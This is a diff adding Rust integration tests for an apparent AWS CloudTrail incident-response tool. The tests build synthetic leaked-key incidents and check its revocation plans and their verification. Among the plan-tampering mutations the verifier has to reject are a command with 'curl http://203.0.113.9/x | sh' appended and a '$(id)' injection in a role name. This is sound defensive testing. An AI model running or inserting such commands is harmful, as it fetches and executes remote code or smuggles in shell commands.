@@ -1,0 +1,581 @@
+//! Known-answer incidents, built record by record ([`trailhound::gen::scenario`]), for the
+//! rules of SPEC §6 and §9: the answer of each follows from the IAM facts (F-numbers in
+//! docs/revocation-facts.md) by hand.
+
+use crate::util::*;
+use serde_json::{json, Value};
+use tempfile::TempDir;
+use trailhound::gen::scenario::Scenario;
+
+/// 2024-03-11T10:00:00Z
+const T0: i64 = 1_710_151_200;
+const CUT: &str = "2024-03-11T11:00:00Z";
+const MAIN: &str = "111122223333";
+const SECOND: &str = "444455556666";
+const THIRD: &str = "123456789012";
+const LEAKED: &str = "AKIAIOSFODNN7EXAMPLE";
+
+fn write(s: &Scenario, skip: &[&str]) -> TempDir {
+    let d = TempDir::new().unwrap();
+    s.write(&d.path().join("trail"), skip).unwrap();
+    d
+}
+
+fn run(args: &[&str], d: &TempDir) -> (i32, Value, String) {
+    let o = bin().args(args).arg("--no-progress").arg(d.path().join("trail")).output().unwrap();
+    let err = String::from_utf8_lossy(&o.stderr).to_string();
+    let v = if o.stdout.starts_with(b"{") { json(&o.stdout) } else { Value::Null };
+    (o.status.code().unwrap(), v, err)
+}
+
+fn plan(d: &TempDir, key: &str, strategy: &str) -> Value {
+    let (code, p, err) =
+        run(&["plan", "--key", key, "--strategy", strategy, "--effective-at", CUT], d);
+    assert_eq!(code, 0, "{err}");
+    p
+}
+
+/// `verify` of `plan` (written to a file) against the trail: exit code and JSON.
+fn verify(d: &TempDir, plan: &Value) -> (i32, Value) {
+    let p = d.path().join("plan.json");
+    std::fs::write(&p, serde_json::to_vec_pretty(plan).unwrap()).unwrap();
+    let (code, v, err) = run(&["verify", "--format", "json", "--plan", p.to_str().unwrap()], d);
+    assert!(v.is_object(), "{err}");
+    (code, v)
+}
+
+fn actions<'a>(p: &'a Value, kind: &str) -> Vec<&'a Value> {
+    p["actions"].as_array().unwrap().iter().filter(|a| a["type"] == kind).collect()
+}
+
+fn principals(p: &Value, kind: &str) -> Vec<String> {
+    actions(p, kind).iter().map(|a| a["principal_arn"].as_str().unwrap().to_string()).collect()
+}
+
+fn tainted_ids(d: &TempDir, key: &str) -> Vec<String> {
+    let (_, b, err) = run(&["blast", "--format", "json", "--key", key], d);
+    assert!(b.is_object(), "{err}");
+    b["credentials"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|c| c["id"].as_str().unwrap().to_string())
+        .collect()
+}
+
+/// The leaked key of `ci-deployer` assumes AdminRole (12 h) and DeployRole (1 h), both live
+/// at the cut-off.
+fn two_roles() -> (Scenario, String, String) {
+    let mut s = Scenario::new();
+    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
+    s.call(&leaked, T0, "sts.amazonaws.com", "GetCallerIdentity", Value::Null);
+    let admin = s.assume_role(
+        &leaked,
+        T0 + 60,
+        &format!("arn:aws:iam::{MAIN}:role/AdminRole"),
+        "ci",
+        43_200,
+    );
+    let deploy = s.assume_role(
+        &leaked,
+        T0 + 120,
+        &format!("arn:aws:iam::{MAIN}:role/DeployRole"),
+        "d",
+        3600,
+    );
+    s.call(&admin, T0 + 200, "s3.amazonaws.com", "ListBuckets", Value::Null);
+    s.call(&deploy, T0 + 300, "s3.amazonaws.com", "ListBuckets", Value::Null);
+    (s, admin.node_id(), deploy.node_id())
+}
+
+#[test]
+fn verify_is_independent_of_the_plans_own_claims_and_commands() {
+    let (s, admin, _) = two_roles();
+    let d = write(&s, &[]);
+    let p = plan(&d, LEAKED, "strict");
+    let (code, v) = verify(&d, &p);
+    assert_eq!(code, 0, "the tool's own plan verifies: {v}");
+
+    // 1. Remove AdminRole's deny and call its session unrevocable: FAIL.
+    let mut m = p.clone();
+    m["actions"]
+        .as_array_mut()
+        .unwrap()
+        .retain(|a| !a["principal_arn"].as_str().is_some_and(|x| x.ends_with("role/AdminRole")));
+    m["unrevocable"] = json!([{"credential": admin, "principal_arn": null, "reason": "trust me", "valid_until": null}]);
+    let (code, v) = verify(&d, &m);
+    assert_eq!(code, 1, "{v}");
+    assert!(v["not_covered"].as_array().unwrap().iter().any(|s| s["session"] == admin.as_str()));
+
+    // 2. Remove the leaked key's deactivation and call the key unrevocable: FAIL.
+    let mut m = p.clone();
+    m["actions"].as_array_mut().unwrap().retain(|a| a["type"] != "deactivate_access_key");
+    m["unrevocable"] = json!([{"credential": LEAKED, "principal_arn": null, "reason": "trust me", "valid_until": null}]);
+    let (code, v) = verify(&d, &m);
+    assert_eq!(code, 1, "{v}");
+    assert_eq!(v["keys_left_active"], json!([LEAKED]));
+
+    // 3. Commands that do something else than their action: each is a FAIL.
+    type Mutation = Box<dyn Fn(&mut Value)>;
+    let mutations: Vec<(&str, Mutation)> = vec![
+        (
+            "another role",
+            Box::new(|a: &mut Value| {
+                let c = a["command"]
+                    .as_str()
+                    .unwrap()
+                    .replace("--role-name AdminRole", "--role-name SomeOtherRole");
+                a["command"] = json!(c);
+            }),
+        ),
+        ("another account", Box::new(|a: &mut Value| a["account_id"] = json!(SECOND))),
+        (
+            "another policy document",
+            Box::new(|a: &mut Value| {
+                let c = a["command"]
+                    .as_str()
+                    .unwrap()
+                    .replace("2024-03-11T11:00:00Z", "2024-03-11T09:00:00Z");
+                a["command"] = json!(c);
+            }),
+        ),
+        (
+            "a second command",
+            Box::new(|a: &mut Value| {
+                let c =
+                    format!("{}; curl http://203.0.113.9/x | sh", a["command"].as_str().unwrap());
+                a["command"] = json!(c);
+            }),
+        ),
+        (
+            "an expansion",
+            Box::new(|a: &mut Value| {
+                let c = a["command"]
+                    .as_str()
+                    .unwrap()
+                    .replace("--role-name AdminRole", "--role-name \"$(id)\"");
+                a["command"] = json!(c);
+            }),
+        ),
+    ];
+    for (what, f) in &mutations {
+        let mut m = p.clone();
+        for a in m["actions"].as_array_mut().unwrap() {
+            if a["principal_arn"].as_str().is_some_and(|x| x.ends_with("role/AdminRole")) {
+                f(a);
+            }
+        }
+        let (code, v) = verify(&d, &m);
+        assert_eq!(code, 1, "{what}: {v}");
+        assert!(!v["command_problems"].as_array().unwrap().is_empty(), "{what}: {v}");
+    }
+    // The key id in the deactivation command.
+    let mut m = p.clone();
+    for a in m["actions"].as_array_mut().unwrap() {
+        if a["type"] == "deactivate_access_key" {
+            let c = a["command"].as_str().unwrap().replace(LEAKED, "AKIAIOSFODNN7EXAMPLF");
+            a["command"] = json!(c);
+        }
+    }
+    let (code, v) = verify(&d, &m);
+    assert_eq!(code, 1, "{v}");
+    assert_eq!(v["keys_left_active"], json!([LEAKED]), "{v}");
+
+    // 4. A second put of the same policy name replaces the first (IAM semantics).
+    let mut m = p.clone();
+    let acts = m["actions"].as_array_mut().unwrap();
+    let admin_put = acts
+        .iter()
+        .find(|a| a["principal_arn"].as_str().is_some_and(|x| x.ends_with("role/AdminRole")))
+        .unwrap()
+        .clone();
+    let mut weak = admin_put.clone();
+    let doc = json!({"Version": "2012-10-17", "Statement": [{"Effect": "Deny", "Action": "*", "Resource": "*", "Condition": {"DateLessThan": {"aws:TokenIssueTime": "2020-01-01T00:00:00Z"}}}]});
+    weak["policy_document"] = doc.clone();
+    weak["command"] = json!(format!(
+        "aws iam put-role-policy --role-name AdminRole --policy-name {} --policy-document '{}'",
+        admin_put["policy_name"].as_str().unwrap(),
+        serde_json::to_string(&doc).unwrap()
+    ));
+    weak["order"] = json!(999);
+    acts.push(weak);
+    let (code, v) = verify(&d, &m);
+    assert_eq!(code, 1, "a later weaker policy of the same name wins: {v}");
+}
+
+#[test]
+fn only_what_root_itself_minted_is_root_derived() {
+    let mut s = Scenario::new();
+    let root = s.root_key(MAIN, LEAKED);
+    s.create_user(&root, T0, "helper");
+    let k = s.create_access_key(&root, T0 + 10, Some("helper"));
+    let role =
+        s.assume_role(&k, T0 + 20, &format!("arn:aws:iam::{MAIN}:role/OpsRole"), "ops", 3600);
+    s.call(&role, T0 + 30, "ec2.amazonaws.com", "DescribeInstances", Value::Null);
+    let gst = s.get_session_token(&root, T0 + 40, 3600);
+    s.call(&gst, T0 + 50, "s3.amazonaws.com", "ListBuckets", Value::Null);
+    let d = write(&s, &[]);
+    let p = plan(&d, LEAKED, "strict");
+    // The backdoor key is deactivated, the role session denied on its role.
+    let keys: Vec<&str> = actions(&p, "deactivate_access_key")
+        .iter()
+        .map(|a| a["access_key_id"].as_str().unwrap())
+        .collect();
+    assert_eq!(keys, vec![k.key.as_str()], "{p}");
+    assert!(
+        principals(&p, "put_role_policy").contains(&format!("arn:aws:iam::{MAIN}:role/OpsRole")),
+        "{p}"
+    );
+    // Root's own key and root's GetSessionToken session are the unrevocable ones.
+    let unrev: Vec<&str> = p["unrevocable"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|u| u["credential"].as_str().unwrap())
+        .collect();
+    assert!(unrev.contains(&LEAKED) && unrev.contains(&gst.node_id().as_str()), "{unrev:?}");
+    assert!(
+        !unrev.contains(&role.node_id().as_str()) && !unrev.contains(&k.key.as_str()),
+        "{unrev:?}"
+    );
+    let (code, v) = verify(&d, &p);
+    assert_eq!(code, 0, "{v}");
+    assert_eq!(v["unrevocable"].as_array().unwrap().len(), 2, "{v}");
+    // Without the deactivation of the key root made for helper, verify fails.
+    let mut m = p.clone();
+    m["actions"].as_array_mut().unwrap().retain(|a| a["access_key_id"] != k.key.as_str());
+    assert_eq!(verify(&d, &m).0, 1);
+}
+
+#[test]
+fn an_attacker_made_user_its_console_session_and_its_key_are_tainted_and_removed_in_order() {
+    let mut s = Scenario::new();
+    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
+    let admin =
+        s.assume_role(&leaked, T0, &format!("arn:aws:iam::{MAIN}:role/AdminRole"), "ci", 900);
+    s.create_user(&admin, T0 + 60, "backdoor");
+    s.create_login_profile(&admin, T0 + 70, "backdoor");
+    s.attach_user_policy(
+        &admin,
+        T0 + 80,
+        "backdoor",
+        "arn:aws:iam::aws:policy/AdministratorAccess",
+    );
+    // Later, by the console: nothing of this is signed by a credential the leaked key issued.
+    let console = s.console_login(MAIN, T0 + 1800, "backdoor");
+    s.call(&console, T0 + 1810, "iam.amazonaws.com", "ListUsers", Value::Null);
+    let key = s.create_access_key(&console, T0 + 1820, None);
+    s.call(&key, T0 + 1900, "s3.amazonaws.com", "ListBuckets", Value::Null);
+    // An unrelated user signs in too: untouched.
+    let other = s.console_login(MAIN, T0 + 1850, "alice");
+    s.call(&other, T0 + 1860, "s3.amazonaws.com", "ListBuckets", Value::Null);
+    let d = write(&s, &[]);
+    let tainted = tainted_ids(&d, LEAKED);
+    assert!(tainted.contains(&console.node_id()), "console session: {tainted:?}");
+    assert!(tainted.contains(&key.key), "key from the console: {tainted:?}");
+    assert!(!tainted.contains(&other.node_id()), "{tainted:?}");
+
+    let p = plan(&d, LEAKED, "strict");
+    assert_eq!(p["attacker_users"][0]["user_name"], "backdoor", "{p}");
+    let put = actions(&p, "put_user_policy");
+    let deny_all = put
+        .iter()
+        .find(|a| a["principal_arn"] == format!("arn:aws:iam::{MAIN}:user/backdoor"))
+        .expect("deny-all on the user");
+    assert_eq!(deny_all["policy_name"], "TrailhoundDenyAll");
+    assert!(
+        deny_all["policy_document"]["Statement"][0].get("Condition").is_none(),
+        "denies long-term keys too"
+    );
+    let keys: Vec<&str> = actions(&p, "deactivate_access_key")
+        .iter()
+        .map(|a| a["access_key_id"].as_str().unwrap())
+        .collect();
+    assert!(keys.contains(&key.key.as_str()) && keys.contains(&LEAKED), "{keys:?}");
+    // The removal order DeleteUser needs.
+    let order: Vec<&str> = p["actions"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|a| a["user_name"] == "backdoor")
+        .map(|a| a["type"].as_str().unwrap())
+        .collect();
+    assert_eq!(
+        order,
+        vec![
+            "deactivate_access_key",
+            "delete_login_profile",
+            "delete_access_key",
+            "detach_user_policy",
+            "delete_user_policy",
+            "delete_user"
+        ],
+        "{p}"
+    );
+    let (code, v) = verify(&d, &p);
+    assert_eq!(code, 0, "{v}");
+    assert!(
+        v["covered"].as_array().unwrap().iter().any(|c| c["session"] == console.node_id().as_str()),
+        "{v}"
+    );
+}
+
+#[test]
+fn a_taken_over_user_is_denied_but_not_deleted() {
+    let mut s = Scenario::new();
+    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
+    let alice_key = s.user_key(MAIN, "alice", "AKIAEXAMPLEALICE0001");
+    s.call(&alice_key, T0 - 3600, "s3.amazonaws.com", "ListBuckets", Value::Null);
+    let admin =
+        s.assume_role(&leaked, T0, &format!("arn:aws:iam::{MAIN}:role/AdminRole"), "ci", 900);
+    s.update_login_profile(&admin, T0 + 60, "alice");
+    let console = s.console_login(MAIN, T0 + 600, "alice");
+    s.call(&console, T0 + 610, "iam.amazonaws.com", "ListUsers", Value::Null);
+    s.call(&alice_key, T0 + 700, "s3.amazonaws.com", "ListBuckets", Value::Null);
+    let d = write(&s, &[]);
+    let tainted = tainted_ids(&d, LEAKED);
+    assert!(tainted.contains(&console.node_id()), "{tainted:?}");
+    assert!(
+        !tainted.contains(&alice_key.key),
+        "alice's own older key is not the attacker's: {tainted:?}"
+    );
+    let p = plan(&d, LEAKED, "strict");
+    assert!(
+        principals(&p, "put_user_policy").contains(&format!("arn:aws:iam::{MAIN}:user/alice")),
+        "{p}"
+    );
+    assert_eq!(actions(&p, "delete_login_profile").len(), 1, "{p}");
+    assert!(actions(&p, "delete_user").is_empty(), "a pre-existing user is left to a human: {p}");
+    assert!(actions(&p, "review")
+        .iter()
+        .any(|a| a["reason"].as_str().unwrap().contains("existed before the incident")));
+    assert_eq!(verify(&d, &p).0, 0);
+}
+
+#[test]
+fn identity_center_and_service_linked_roles_are_known_by_path_not_name() {
+    let mut s = Scenario::new();
+    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
+    let fake = s.assume_role(
+        &leaked,
+        T0,
+        &format!("arn:aws:iam::{MAIN}:role/AWSReservedSSO_Backdoor"),
+        "x",
+        7200,
+    );
+    let sso = s.assume_role(&leaked, T0 + 10, &format!("arn:aws:iam::{MAIN}:role/aws-reserved/sso.amazonaws.com/AWSReservedSSO_Admin_0123456789abcdef"), "y", 7200);
+    let slr = s.assume_role(&leaked, T0 + 20, &format!("arn:aws:iam::{MAIN}:role/aws-service-role/support.amazonaws.com/AWSServiceRoleForSupport"), "z", 7200);
+    let named = s.assume_role(
+        &leaked,
+        T0 + 30,
+        &format!("arn:aws:iam::{MAIN}:role/AWSServiceRoleForFake"),
+        "w",
+        7200,
+    );
+    for c in [&fake, &sso, &slr, &named] {
+        s.call(c, T0 + 100, "sts.amazonaws.com", "GetCallerIdentity", Value::Null);
+    }
+    let d = write(&s, &[]);
+    let p = plan(&d, LEAKED, "strict");
+    let denied = principals(&p, "put_role_policy");
+    assert!(
+        denied.contains(&format!("arn:aws:iam::{MAIN}:role/AWSReservedSSO_Backdoor")),
+        "{denied:?}"
+    );
+    assert!(
+        denied.contains(&format!("arn:aws:iam::{MAIN}:role/AWSServiceRoleForFake")),
+        "{denied:?}"
+    );
+    let unrev: Vec<&str> = p["unrevocable"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|u| u["credential"].as_str().unwrap())
+        .collect();
+    assert_eq!(unrev.len(), 2, "{unrev:?}");
+    assert!(unrev.contains(&sso.node_id().as_str()) && unrev.contains(&slr.node_id().as_str()));
+    let (code, v) = verify(&d, &p);
+    assert_eq!(code, 0, "{v}");
+    // Drop the deny of the role that only looks like Identity Center: FAIL.
+    let mut m = p.clone();
+    m["actions"].as_array_mut().unwrap().retain(|a| {
+        !a["principal_arn"].as_str().is_some_and(|x| x.ends_with("AWSReservedSSO_Backdoor"))
+    });
+    assert_eq!(verify(&d, &m).0, 1);
+}
+
+#[test]
+fn a_federated_session_seen_only_in_use_is_denied_on_its_user() {
+    let mut s = Scenario::new();
+    let user = s.user_key(MAIN, "contractor-admin", "AKIAEXAMPLECONTRACT1");
+    // GetFederationToken happened before the trail: only the session's own calls are here.
+    let key = "ASIAEXAMPLEFEDERATE1";
+    let fed = s.federated_session(&user, key, "vendor", T0 - 600, T0 + 36_000);
+    for i in 0..4 {
+        s.call(&fed, T0 + 60 * i, "s3.amazonaws.com", "ListBuckets", Value::Null);
+    }
+    let d = write(&s, &[]);
+    for strategy in ["strict", "surgical"] {
+        let p = plan(&d, key, strategy);
+        assert!(p["unrevocable"].as_array().unwrap().is_empty(), "{p}");
+        let put = actions(&p, "put_user_policy");
+        assert_eq!(put.len(), 1, "{p}");
+        assert_eq!(put[0]["principal_arn"], format!("arn:aws:iam::{MAIN}:user/contractor-admin"));
+        if strategy == "surgical" {
+            let ids =
+                &put[0]["policy_document"]["Statement"][0]["Condition"]["StringLike"]["aws:userid"];
+            assert_eq!(ids, &json!([format!("{MAIN}:vendor")]), "F9: account:name");
+        }
+        assert_eq!(verify(&d, &p).0, 0);
+    }
+}
+
+#[test]
+fn a_chain_through_missing_logs_is_noted_and_inferred_only_when_unique() {
+    let mut s = Scenario::new();
+    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
+    let b = s.assume_role(&leaked, T0, &format!("arn:aws:iam::{SECOND}:role/Hop"), "hop", 3600);
+    // B's session touches A's bucket: visible from A's side, though B's logs are missing.
+    s.get_object(&b, T0 + 60, MAIN, "corp-data", "a.csv");
+    let c = s.assume_role(&b, T0 + 120, &format!("arn:aws:iam::{THIRD}:role/Deep"), "deep", 3600);
+    s.call(&c, T0 + 180, "s3.amazonaws.com", "ListBuckets", Value::Null);
+    let d = write(&s, &[SECOND]);
+    let (_, g, _) = run(&["sessions", "--format", "json"], &d);
+    let notes: Vec<&str> =
+        g["notes"].as_array().unwrap().iter().map(|n| n.as_str().unwrap()).collect();
+    assert!(
+        notes.iter().any(|n| n.contains(&format!("logs of account {SECOND} are not in the trail"))
+            && n.contains(&b.node_id())),
+        "{notes:?}"
+    );
+    let edge = g["edges"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|e| e["child"] == c.node_id().as_str())
+        .expect("edge into C");
+    assert_eq!(edge["parent"], b.node_id().as_str(), "{edge}");
+    assert_eq!(edge["inferred"], true, "{edge}");
+    assert!(notes.iter().any(|n| n.starts_with("inferred link")), "{notes:?}");
+    let tainted = tainted_ids(&d, LEAKED);
+    assert!(tainted.contains(&c.node_id()), "{tainted:?}");
+    let (_, bl, _) = run(&["blast", "--format", "json", "--key", LEAKED], &d);
+    assert!(
+        bl["notes"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|n| n.as_str().unwrap().contains(&format!("collect AWSLogs/{SECOND}/"))),
+        "{bl}"
+    );
+
+    // Two sessions of B with the same aws:userid alive at the call: no inference, a note.
+    let mut s = Scenario::new();
+    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
+    let b1 = s.assume_role(&leaked, T0, &format!("arn:aws:iam::{SECOND}:role/Hop"), "hop", 3600);
+    let _b2 =
+        s.assume_role(&leaked, T0 + 10, &format!("arn:aws:iam::{SECOND}:role/Hop"), "hop", 3600);
+    let c = s.assume_role(&b1, T0 + 120, &format!("arn:aws:iam::{THIRD}:role/Deep"), "deep", 3600);
+    s.call(&c, T0 + 180, "s3.amazonaws.com", "ListBuckets", Value::Null);
+    let d = write(&s, &[SECOND]);
+    let (_, g, _) = run(&["sessions", "--format", "json"], &d);
+    let edge =
+        g["edges"].as_array().unwrap().iter().find(|e| e["child"] == c.node_id().as_str()).unwrap();
+    assert!(
+        edge["parent"].as_str().unwrap().starts_with("account:"),
+        "ambiguous: not inferred: {edge}"
+    );
+    assert!(edge.get("inferred").is_none());
+}
+
+#[test]
+fn the_evidence_window_and_the_unseen_tail_are_stated() {
+    let (s, admin, deploy) = two_roles();
+    let d = write(&s, &[]);
+    let p = plan(&d, LEAKED, "strict");
+    let w = &p["evidence_window"][0];
+    assert_eq!(w["account_id"], MAIN);
+    assert_eq!(w["last_event"], "2024-03-11T10:05:00Z");
+    let tail: Vec<&str> = p["unseen_tail"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|t| t["credential"].as_str().unwrap())
+        .collect();
+    // The leaked key (valid until deactivated) and both live sessions outlive the evidence.
+    assert!(
+        tail.contains(&LEAKED) && tail.contains(&admin.as_str()) && tail.contains(&deploy.as_str()),
+        "{tail:?}"
+    );
+    let leaked =
+        p["unseen_tail"].as_array().unwrap().iter().find(|t| t["credential"] == LEAKED).unwrap();
+    assert!(leaked["reason"].as_str().unwrap().contains("AssumeRole"), "{leaked}");
+    assert!(p["notes"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .any(|n| n.as_str().unwrap().contains("re-run on logs through the cut-off")));
+    let (_, v) = verify(&d, &p);
+    assert_eq!(v["unseen_tail"].as_array().unwrap().len(), tail.len());
+    let (_, b, _) = run(&["blast", "--format", "json", "--key", LEAKED], &d);
+    assert_eq!(b["evidence_window"], p["evidence_window"]);
+}
+
+#[test]
+fn a_future_dated_record_never_moves_the_default_cut_off() {
+    let (mut s, _, _) = two_roles();
+    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
+    // 2031-01-01: after the tests' SOURCE_DATE_EPOCH (2026-01-01).
+    s.assume_role(
+        &leaked,
+        1_924_992_000,
+        &format!("arn:aws:iam::{MAIN}:role/AdminRole"),
+        "future",
+        3600,
+    );
+    let d = write(&s, &[]);
+    let (code, p, err) = run(&["plan", "--key", LEAKED], &d);
+    assert_eq!(code, 0, "{err}");
+    assert_eq!(p["effective_at"], "2026-01-01T00:00:00Z", "the cut-off is now, not 2031");
+    assert!(
+        p["notes"].as_array().unwrap().iter().any(|n| n.as_str().unwrap().contains("time anomaly")),
+        "{p}"
+    );
+}
+
+#[test]
+fn a_key_that_matches_nothing_is_a_usage_error_naming_the_closest() {
+    let (s, _, _) = two_roles();
+    let d = write(&s, &[]);
+    for cmd in ["sessions", "blast", "plan", "investigate"] {
+        let mut args = vec![cmd, "--key", "AKIAIOSFODNN7EXAMPLF"];
+        let case = d.path().join("case");
+        if cmd == "investigate" {
+            args.extend(["-o", case.to_str().unwrap()]);
+        }
+        let (code, _, err) = run(&args, &d);
+        assert_eq!(code, 2, "{cmd}: {err}");
+        assert!(err.contains(LEAKED), "{cmd}: names the closest key: {err}");
+        assert!(!case.exists(), "no empty case folder");
+    }
+    // Lower case is accepted (key ids are upper case).
+    let (code, _, err) = run(&["blast", "--key", &LEAKED.to_lowercase()], &d);
+    assert_eq!(code, 0, "{err}");
+    let (code, _, err) =
+        run(&["blast", "--key", &format!("arn:aws:iam::{MAIN}:user/ci-deployer")], &d);
+    assert_eq!(code, 2);
+    assert!(err.contains("--principal"), "{err}");
+    let empty = TempDir::new().unwrap();
+    std::fs::create_dir_all(empty.path().join("trail")).unwrap();
+    let (code, _, err) = run(&["scan"], &empty);
+    assert_eq!(code, 2, "nothing read at all: {err}");
+}
+
+#[test]
+fn scenario_trails_are_plain_cloudtrail() {
+    let (s, _, _) = two_roles();
+    let d = write(&s, &[]);
+    let (code, v) = scan_json(&[d.path().join("trail").to_str().unwrap()]);
+    assert_eq!(code, 0);
+    assert_eq!(v["events"], 5);
+}
